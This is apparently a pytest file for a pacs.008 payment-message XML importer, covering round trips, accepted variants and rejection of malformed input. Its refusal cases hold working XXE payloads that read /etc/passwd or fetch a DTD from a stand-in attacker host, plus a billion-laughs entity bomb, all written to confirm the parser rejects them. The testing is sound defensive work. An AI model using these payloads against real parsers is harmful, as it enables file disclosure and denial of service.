"""pacs.008.001.08 import: round trips, and hostile or malformed documents refused by code.

The malformed cases are mutations of a document the builder produced, so each
row breaks exactly one rule; the table is in the importer's order of
precedence.
"""

from __future__ import annotations

import dataclasses
import re
import socket
import urllib.request
from datetime import UTC, date, datetime, timedelta, timezone
from typing import Any

import pytest

from settlement.errors import InvalidArgument
from settlement.iso20022.build import build_pacs008
from settlement.iso20022.messages import (
    Account,
    Agent,
    Fee,
    Party,
    PaymentMessage,
    PostalAddress,
)
from settlement.iso20022.parse import (
    XML_DEPTH_MAX,
    XML_NODES_MAX,
    XML_SIZE_MAX_BYTES,
    XmlElementMustBePresent,
    XmlElementMustBeSupported,
    XmlMustMatchSchema,
    import_pacs008,
)

NAMESPACE = "urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"
UETR = "3f1c8a2e-5b7d-4c9e-8a1f-2d3e4f5a6b7c"
US_BANK = Agent(bic="CHASUS33XXX", aba="021000021", name="JPMorgan Chase Bank, N.A.")
PK_BANK = Agent(bic="HABBPKKA", name="Habib Bank Limited")


def payment(**changes: Any) -> PaymentMessage:
    """A converted USD -> PKR payment with every element the import maps."""
    base = PaymentMessage(
        message_id="MSG-20240502-0001",
        created_at=datetime(2024, 5, 2, 9, 30, 15, tzinfo=UTC),
        uetr=UETR,
        end_to_end_id="INV-2024-0042",
        instruction_id="INSTR-0001",
        amount_minor=2_785_000_00,
        currency="PKR",
        settlement_date=date(2024, 5, 2),
        charge_bearer="SHAR",
        instructed_amount_minor=1_000_000,
        instructed_currency="USD",
        exchange_rate="278.5",
        fees=(
            Fee(amount_minor=2_500, currency="USD", agent=US_BANK),
            Fee(amount_minor=0, currency="PKR", agent=PK_BANK),
        ),
        debtor=Party(
            name="Rocky Mountain Metals Inc",
            account=Account.other("000123456789"),
            lei="5493001KJTIIGC8Y1R12",
            address=PostalAddress(country="US", lines=("1700 Lincoln St", "Denver CO 80203")),
        ),
        debtor_agent=US_BANK,
        creditor_agent=PK_BANK,
        creditor=Party(
            name="Chagai Copper (Pvt) Ltd",
            account=Account.iban("PK36SCBL0000001123456702"),
            address=PostalAddress(country="PK"),
        ),
        remittance="Provisional invoice PI-2024-0042, lot 7",
    )
    return dataclasses.replace(base, **changes)


DOCUMENT = build_pacs008(payment()).decode("utf-8")


def mutated(old: str, new: str, document: str = DOCUMENT) -> bytes:
    """The built document with one exact, unique fragment replaced."""
    assert document.count(old) == 1, old
    return document.replace(old, new).encode("utf-8")


def inserted_after(anchor: str, fragment: str) -> bytes:
    return mutated(anchor, anchor + fragment)


# --- Round trips ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "changes",
    [
        pytest.param({}, id="everything"),
        pytest.param(
            {
                "instructed_amount_minor": None,
                "instructed_currency": None,
                "exchange_rate": None,
                "fees": (),
                "instruction_id": None,
                "remittance": None,
                "settlement_method": "INDA",
                "charge_bearer": "DEBT",
                "debtor": Party(name="A", account=Account.iban("DE89370400440532013000")),
                "creditor": Party(name="B", account=Account.other("1")),
                "debtor_agent": Agent(bic="DEUTDEFF"),
                "creditor_agent": Agent(bic="HABBPKKA"),
            },
            id="minimal",
        ),
        pytest.param(
            {
                "currency": "JPY",
                "amount_minor": 1_234_567,
                "instructed_amount_minor": 12_345,
                "instructed_currency": "KWD",
                "exchange_rate": "100.00000001",
                "fees": (Fee(amount_minor=1, currency="KWD", agent=US_BANK),),
            },
            id="JPY-from-KWD",
        ),
        pytest.param(
            {
                "currency": "USD",
                "amount_minor": 1_000_000,
                "instructed_amount_minor": 2_785_000_00,
                "instructed_currency": "PKR",
                "exchange_rate": "0.0035906643",
                "charge_bearer": "CRED",
            },
            id="PKR-to-USD",
        ),
        pytest.param(
            {
                "created_at": datetime(
                    2024, 5, 2, 14, 30, 15, 123456, tzinfo=timezone(timedelta(hours=5))
                )
            },
            id="karachi-time",
        ),
        pytest.param(
            {"creditor": Party(name="Société Minière Ω", account=Account.other(" 12 34 "))},
            id="non-ascii-and-spaces-kept",
        ),
        pytest.param({"exchange_rate": "278.50"}, id="rate-precision-kept"),
    ],
)
def test_round_trip(changes: dict[str, Any]) -> None:
    original = payment(**changes)
    assert import_pacs008(build_pacs008(original)) == original


def test_round_trip_keeps_the_instant_of_created_at() -> None:
    karachi = datetime(2024, 5, 2, 14, 30, 15, tzinfo=timezone(timedelta(hours=5)))
    imported = import_pacs008(build_pacs008(payment(created_at=karachi)))
    assert imported.created_at == karachi
    assert imported.created_at.utcoffset() == timedelta(0)


# --- Accepted spellings -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("document", "field", "expected"),
    [
        pytest.param(
            mutated("<XchgRate>278.5</XchgRate>", "<XchgRate>+0278.50</XchgRate>"),
            "exchange_rate",
            "278.50",
            id="rate-sign-and-leading-zero",
        ),
        pytest.param(
            mutated(
                '<IntrBkSttlmAmt Ccy="PKR">2785000.00</IntrBkSttlmAmt>',
                '<IntrBkSttlmAmt Ccy="PKR"> 2785000.0000 </IntrBkSttlmAmt>',
            ),
            "amount_minor",
            2_785_000_00,
            id="amount-trailing-zeros-and-spaces",
        ),
        pytest.param(
            mutated(
                '<IntrBkSttlmAmt Ccy="PKR">2785000.00</IntrBkSttlmAmt>',
                '<IntrBkSttlmAmt Ccy="PKR">2785000</IntrBkSttlmAmt>',
            ),
            "amount_minor",
            2_785_000_00,
            id="amount-without-decimals",
        ),
        pytest.param(
            mutated(
                "<CreDtTm>2024-05-02T09:30:15+00:00</CreDtTm>",
                "<CreDtTm>2024-05-02T09:30:15Z</CreDtTm>",
            ),
            "created_at",
            datetime(2024, 5, 2, 9, 30, 15, tzinfo=UTC),
            id="zulu-time",
        ),
        pytest.param(
            inserted_after(
                "<EndToEndId>INV-2024-0042</EndToEndId>", "<TxId>hub-assigned-elsewhere</TxId>"
            ),
            "end_to_end_id",
            "INV-2024-0042",
            id="TxId-skipped",
        ),
        pytest.param(
            mutated(
                "</SttlmInf>",
                "</SttlmInf><InstgAgt><FinInstnId><BICFI>CHASUS33</BICFI></FinInstnId></InstgAgt>"
                "<InstdAgt><FinInstnId><BICFI>SETLPKKA</BICFI></FinInstnId></InstdAgt>",
            ),
            "message_id",
            "MSG-20240502-0001",
            id="routing-agents-skipped",
        ),
        pytest.param(
            DOCUMENT.replace("<", "<p:")
            .replace("<p:/", "</p:")
            .replace("<p:?xml", "<?xml")
            .replace(f'xmlns="{NAMESPACE}"', f'xmlns:p="{NAMESPACE}"')
            .encode("utf-8"),
            "uetr",
            UETR,
            id="prefixed-namespace",
        ),
        pytest.param(
            mutated("<Nm>Rocky Mountain Metals Inc</Nm>", "<Nm>Rocky <!-- x --> Mountain</Nm>"),
            "debtor",
            dataclasses.replace(payment().debtor, name="Rocky  Mountain"),
            id="comment-dropped",
        ),
    ],
)
def test_accepts(document: bytes, field: str, expected: object) -> None:
    assert getattr(import_pacs008(document), field) == expected


def test_validation_ignores_schema_location_hints(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"network access attempted: {args!r}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    document = mutated(
        f'<Document xmlns="{NAMESPACE}">',
        f'<Document xmlns="{NAMESPACE}" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="{NAMESPACE} http://schemas.example.invalid/pacs.008.xsd">',
    )
    assert import_pacs008(document) == payment()


# --- Refusals, in order of precedence --------------------------------------------------------

XXE_EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "file:///etc/passwd">
<Document xmlns="{NAMESPACE}"/>""".encode()

XXE_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="{NAMESPACE}"><FIToFICstmrCdtTrf>&xxe;</FIToFICstmrCdtTrf></Document>""".encode()

XXE_PARAMETER_ENTITY = f"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.example.invalid/x.dtd"> %remote;]>
<Document xmlns="{NAMESPACE}"/>""".encode()

_LAUGHS = "\n".join(
    ['<!ENTITY lol0 "lol">']
    + [f'<!ENTITY lol{level} "' + f"&lol{level - 1};" * 10 + '">' for level in range(1, 10)]
)
BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE Document [
{_LAUGHS}
]>
<Document xmlns="{NAMESPACE}">&lol9;</Document>""".encode()

INTERNAL_ENTITY = mutated(
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE Document [<!ENTITY e "INV">]>',
    DOCUMENT.replace("<EndToEndId>INV-2024-0042", "<EndToEndId>&e;-2024-0042"),
)


def _nested(depth: int) -> bytes:
    inner = "<X>" * (depth - 1) + "</X>" * (depth - 1)
    return f'<Document xmlns="{NAMESPACE}">{inner}</Document>'.encode()


def _wide(elements: int, attributes: int = 0) -> bytes:
    names = " ".join(f'a{index}="1"' for index in range(attributes))
    inner = "<X/>" * (elements - 1)
    return f'<Document xmlns="{NAMESPACE}" {names}>{inner}</Document>'.encode()


REFUSALS: list[Any] = [
    pytest.param(b" " * (XML_SIZE_MAX_BYTES + 1), "xml_must_fit_size_limit", id="too-large"),
    pytest.param(b"", "xml_must_be_well_formed", id="empty"),
    pytest.param(b"not xml at all", "xml_must_be_well_formed", id="text"),
    pytest.param(DOCUMENT[:-30].encode(), "xml_must_be_well_formed", id="truncated"),
    pytest.param(mutated("</MsgId>", "</MsgID>"), "xml_must_be_well_formed", id="mismatched-tag"),
    pytest.param(
        mutated("Chagai Copper (Pvt) Ltd", "Chagai & Copper"),
        "xml_must_be_well_formed",
        id="bare-ampersand",
    ),
    pytest.param(
        mutated("Chagai Copper (Pvt) Ltd", "Chagai &undefined; Copper"),
        "xml_must_be_well_formed",
        id="undeclared-entity",
    ),
    pytest.param(
        mutated("Chagai Copper", "Chagai \xff Copper").replace(b"\xc3\xbf", b"\xff"),
        "xml_must_be_well_formed",
        id="invalid-utf8",
    ),
    pytest.param(XXE_EXTERNAL_DTD, "xml_must_not_declare_entities", id="xxe-external-dtd"),
    pytest.param(XXE_ENTITY, "xml_must_not_declare_entities", id="xxe-external-entity"),
    pytest.param(XXE_PARAMETER_ENTITY, "xml_must_not_declare_entities", id="xxe-parameter-entity"),
    pytest.param(BILLION_LAUGHS, "xml_must_not_declare_entities", id="billion-laughs"),
    pytest.param(INTERNAL_ENTITY, "xml_must_not_declare_entities", id="internal-entity"),
    pytest.param(_nested(XML_DEPTH_MAX + 1), "xml_must_fit_depth_limit", id="too-deep"),
    pytest.param(_wide(XML_NODES_MAX + 1), "xml_must_fit_node_limit", id="too-many-elements"),
    pytest.param(_wide(1, XML_NODES_MAX), "xml_must_fit_node_limit", id="too-many-attributes"),
    pytest.param(
        DOCUMENT.replace(
            "<ChrgsInf>",
            re.sub(
                r">\s+<",
                "><",
                DOCUMENT[DOCUMENT.index("<ChrgsInf>") : DOCUMENT.index("</ChrgsInf>") + 11],
            )
            * 200
            + "<ChrgsInf>",
            1,
        ).encode(),
        "xml_must_fit_node_limit",
        id="too-many-fees",
    ),
    pytest.param(_nested(XML_DEPTH_MAX), "xml_must_match_schema", id="deep-but-within-limit"),
    pytest.param(_wide(XML_NODES_MAX), "xml_must_match_schema", id="wide-but-within-limit"),
    pytest.param(
        DOCUMENT.replace("pacs.008.001.08", "pacs.008.001.09").encode(),
        "xml_namespace_must_be_pacs008",
        id="newer-version",
    ),
    pytest.param(
        DOCUMENT.replace(f' xmlns="{NAMESPACE}"', "").encode(),
        "xml_namespace_must_be_pacs008",
        id="no-namespace",
    ),
    pytest.param(
        mutated(f'<Document xmlns="{NAMESPACE}">', f'<AppHdr xmlns="{NAMESPACE}">').replace(
            b"</Document>", b"</AppHdr>"
        ),
        "xml_namespace_must_be_pacs008",
        id="wrong-root",
    ),
    pytest.param(
        mutated("<EndToEndId>INV-2024-0042</EndToEndId>", ""),
        "xml_must_match_schema",
        id="missing-required-element",
    ),
    pytest.param(
        mutated(
            '<IntrBkSttlmAmt Ccy="PKR">2785000.00</IntrBkSttlmAmt>',
            '<IntrBkSttlmAmt Ccy="PKR">-2785000.00</IntrBkSttlmAmt>',
        ),
        "xml_must_match_schema",
        id="negative-amount",
    ),
    pytest.param(
        mutated(
            '<IntrBkSttlmAmt Ccy="PKR">2785000.00</IntrBkSttlmAmt>',
            '<IntrBkSttlmAmt Ccy="PKR">27850.000001</IntrBkSttlmAmt>',
        ),
        "xml_must_match_schema",
        id="amount-beyond-xsd-decimals",
    ),
    pytest.param(
        mutated(f"<UETR>{UETR}</UETR>", f"<UETR>{UETR.upper()}</UETR>"),
        "xml_must_match_schema",
        id="uppercase-uetr",
    ),
    pytest.param(
        mutated("<ChrgBr>SHAR</ChrgBr>", "<ChrgBr>SHARE</ChrgBr>"),
        "xml_must_match_schema",
        id="charge-bearer-outside-xsd",
    ),
    pytest.param(
        inserted_after("</PmtId>", "<Bogus>1</Bogus>"),
        "xml_must_match_schema",
        id="unknown-element",
    ),
    pytest.param(
        inserted_after("</CdtrAcct>", "<UltmtCdtr><Nm>Someone Else</Nm></UltmtCdtr>"),
        "xml_element_must_be_supported",
        id="ultimate-creditor",
    ),
    pytest.param(
        inserted_after("</CdtrAcct>", "<Purp><Cd>GDDS</Cd></Purp>"),
        "xml_element_must_be_supported",
        id="purpose",
    ),
    pytest.param(
        inserted_after(
            "<Ustrd>Provisional invoice PI-2024-0042, lot 7</Ustrd>",
            "<Strd><AddtlRmtInf>lot 7</AddtlRmtInf></Strd>",
        ),
        "xml_element_must_be_supported",
        id="structured-remittance",
    ),
    pytest.param(
        mutated("<NbOfTxs>1</NbOfTxs>", "<NbOfTxs>2</NbOfTxs>"),
        "xml_must_contain_one_transaction",
        id="declares-two-transactions",
    ),
    pytest.param(
        mutated(
            "</CdtTrfTxInf>",
            "</CdtTrfTxInf>"
            + DOCUMENT[DOCUMENT.index("<CdtTrfTxInf>") : DOCUMENT.index("</CdtTrfTxInf>")]
            + "</CdtTrfTxInf>",
        ),
        "xml_must_contain_one_transaction",
        id="two-transactions",
    ),
    pytest.param(
        mutated(f"<UETR>{UETR}</UETR>", ""), "xml_element_must_be_present", id="missing-uetr"
    ),
    pytest.param(
        mutated("<IntrBkSttlmDt>2024-05-02</IntrBkSttlmDt>", ""),
        "xml_element_must_be_present",
        id="missing-settlement-date",
    ),
    pytest.param(
        mutated("<Nm>Chagai Copper (Pvt) Ltd</Nm>", ""),
        "xml_element_must_be_present",
        id="missing-creditor-name",
    ),
    pytest.param(
        mutated(DOCUMENT[DOCUMENT.index("<DbtrAcct>") : DOCUMENT.index("</DbtrAcct>") + 11], ""),
        "xml_element_must_be_present",
        id="missing-debtor-account",
    ),
    pytest.param(
        mutated(
            DOCUMENT[DOCUMENT.index("<CdtrAgt>") : DOCUMENT.index("</CdtrAgt>")],
            "<CdtrAgt><FinInstnId><Nm>Habib Bank Limited</Nm></FinInstnId>",
        ),
        "xml_element_must_be_present",
        id="agent-without-bic",
    ),
    pytest.param(
        DOCUMENT.replace("<Cd>USABA</Cd>", "<Cd>GBDSC</Cd>").encode(),
        "xml_clearing_system_must_be_usaba",
        id="sort-code",
    ),
    pytest.param(
        inserted_after(
            "<Ustrd>Provisional invoice PI-2024-0042, lot 7</Ustrd>", "<Ustrd>second</Ustrd>"
        ),
        "xml_element_must_not_repeat",
        id="two-remittance-lines",
    ),
    pytest.param(
        mutated('<IntrBkSttlmAmt Ccy="PKR">', '<IntrBkSttlmAmt Ccy="XAU">'),
        "xml_currency_must_be_known",
        id="gold",
    ),
    pytest.param(
        mutated(
            '<IntrBkSttlmAmt Ccy="PKR">2785000.00</IntrBkSttlmAmt>',
            '<IntrBkSttlmAmt Ccy="PKR">2785000.001</IntrBkSttlmAmt>',
        ),
        "xml_amount_must_fit_currency",
        id="three-decimals-in-PKR",
    ),
    pytest.param(
        mutated(
            '<InstdAmt Ccy="USD">10000.00</InstdAmt>', '<InstdAmt Ccy="JPY">10000.5</InstdAmt>'
        ),
        "xml_amount_must_fit_currency",
        id="decimals-in-JPY",
    ),
    pytest.param(
        mutated('<Amt Ccy="USD">25.00</Amt>', '<Amt Ccy="KWD">25.0001</Amt>'),
        "xml_amount_must_fit_currency",
        id="four-decimals-in-KWD-fee",
    ),
    pytest.param(
        mutated(
            '<IntrBkSttlmAmt Ccy="PKR">2785000.00</IntrBkSttlmAmt>',
            '<IntrBkSttlmAmt Ccy="PKR">0.00</IntrBkSttlmAmt>',
        ),
        "xml_amount_must_be_positive",
        id="zero-amount",
    ),
    pytest.param(
        mutated(
            "<IntrBkSttlmDt>2024-05-02</IntrBkSttlmDt>",
            "<IntrBkSttlmDt>2024-05-02Z</IntrBkSttlmDt>",
        ),
        "xml_date_must_be_calendar_date",
        id="date-with-zone",
    ),
    pytest.param(
        mutated("2024-05-02T09:30:15+00:00", "2024-05-02T24:00:00+00:00"),
        "xml_timestamp_must_be_iso8601",
        id="hour-24",
    ),
    pytest.param(
        mutated("2024-05-02T09:30:15+00:00", "2024-05-02T09:30:15"),
        "xml_timestamp_must_have_offset",
        id="local-time",
    ),
    pytest.param(
        mutated("<SttlmMtd>CLRG</SttlmMtd>", "<SttlmMtd>COVE</SttlmMtd>"),
        "settlement_method_must_be_known",
        id="cover-method",
    ),
    pytest.param(
        mutated("<ChrgBr>SHAR</ChrgBr>", "<ChrgBr>SLEV</ChrgBr>"),
        "charge_bearer_must_be_known",
        id="SEPA-charge-bearer",
    ),
    pytest.param(
        mutated('<InstdAmt Ccy="USD">10000.00</InstdAmt>', ""),
        "exchange_rate_must_have_conversion",
        id="rate-without-instructed-amount",
    ),
    pytest.param(
        mutated("<XchgRate>278.5</XchgRate>", ""),
        "conversion_must_have_exchange_rate",
        id="conversion-without-rate",
    ),
    pytest.param(
        mutated("<XchgRate>278.5</XchgRate>", "<XchgRate>-278.5</XchgRate>"),
        "exchange_rate_must_be_positive",
        id="negative-rate",
    ),
    pytest.param(
        DOCUMENT.replace("<MmbId>021000021</MmbId>", "<MmbId>2100002</MmbId>").encode(),
        "aba_must_be_nine_digits",
        id="short-routing-number",
    ),
]


@pytest.mark.parametrize(("document", "code"), REFUSALS)
def test_refuses(document: bytes, code: str) -> None:
    with pytest.raises(InvalidArgument) as raised:
        import_pacs008(document)
    assert raised.value.code == code


def test_entities_are_never_expanded() -> None:
    for document in (XXE_EXTERNAL_DTD, XXE_ENTITY, BILLION_LAUGHS):
        with pytest.raises(InvalidArgument) as raised:
            import_pacs008(document)
        assert "root:" not in str(raised.value)
        assert "lollol" not in str(raised.value)


def test_size_limit_counts_bytes() -> None:
    padding = XML_SIZE_MAX_BYTES - len(DOCUMENT.encode())
    at_limit = DOCUMENT.replace("</Document>", " " * padding + "</Document>").encode()
    assert len(at_limit) == XML_SIZE_MAX_BYTES
    assert import_pacs008(at_limit) == payment()
    with pytest.raises(InvalidArgument, match="xml_must_fit_size_limit"):
        import_pacs008(at_limit + b" ")


def test_schema_error_names_the_invalid_element() -> None:
    document = mutated(
        '<IntrBkSttlmAmt Ccy="PKR">2785000.00</IntrBkSttlmAmt>',
        '<IntrBkSttlmAmt Ccy="PKR">-1.00</IntrBkSttlmAmt>',
    )
    with pytest.raises(XmlMustMatchSchema) as raised:
        import_pacs008(document)
    assert raised.value.path == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf/IntrBkSttlmAmt"
    assert raised.value.path in str(raised.value)


def test_schema_error_quotes_hostile_input_briefly() -> None:
    name = "A" * 100_000
    document = inserted_after("</PmtId>", f"<{name}>1</{name}>")
    with pytest.raises(XmlMustMatchSchema) as raised:
        import_pacs008(document)
    assert len(str(raised.value)) < 1_000


def test_missing_required_element_is_reported_at_its_parent() -> None:
    with pytest.raises(XmlMustMatchSchema) as raised:
        import_pacs008(mutated("<EndToEndId>INV-2024-0042</EndToEndId>", ""))
    assert raised.value.path == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf/PmtId"
    assert "EndToEndId" in str(raised.value)


def test_unsupported_elements_are_all_listed() -> None:
    document = inserted_after(
        "</CdtrAcct>",
        "<UltmtCdtr><Nm>Someone Else</Nm></UltmtCdtr><Purp><Cd>GDDS</Cd></Purp>",
    )
    with pytest.raises(XmlElementMustBeSupported) as raised:
        import_pacs008(document)
    assert raised.value.paths == (
        "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf/UltmtCdtr",
        "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf/Purp",
    )


def test_missing_element_error_names_the_path() -> None:
    with pytest.raises(XmlElementMustBePresent) as raised:
        import_pacs008(mutated(f"<UETR>{UETR}</UETR>", ""))
    assert raised.value.path == "/Document/FIToFICstmrCdtTrf/CdtTrfTxInf/PmtId/UETR"
